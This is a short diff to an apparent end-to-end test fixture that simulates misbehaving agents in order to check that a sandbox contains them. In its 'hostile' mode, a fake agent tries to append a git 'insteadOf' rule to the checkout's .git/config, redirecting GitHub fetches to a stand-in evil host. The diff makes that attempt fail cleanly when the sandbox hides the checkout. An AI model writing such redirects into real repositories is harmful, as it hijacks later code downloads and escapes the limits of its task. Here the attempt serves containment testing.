@@ -98,9 +98,12 @@ if behaviour == "hang":  # an agent that never ends: its lane's limit must stop 
     time.sleep(3600)
 if behaviour == "hostile":  # goes for the steps of its job that run after it (ADR 0026)
     tried = {}
-    checkout = next(p.parent for p in pathlib.Path.cwd().parents if p.name == ".git")
+    # the tree is seen at a path of the sandbox's own (ADR 0069): the checkout is not in sight
+    checkout = next((p.parent for p in pathlib.Path.cwd().parents if p.name == ".git"), None)
     evil = os.environ["IMM_E2E_EVIL"]
     try:
+        if checkout is None:
+            raise FileNotFoundError("no checkout above the tree")
         with (checkout / ".git" / "config").open("a") as config:  # longer than the runner's rule
             config.write(f'[url "{evil}/"]\\n\\tinsteadOf = https://github.com/acme/\\n')
         tried["git config"] = "wrote"
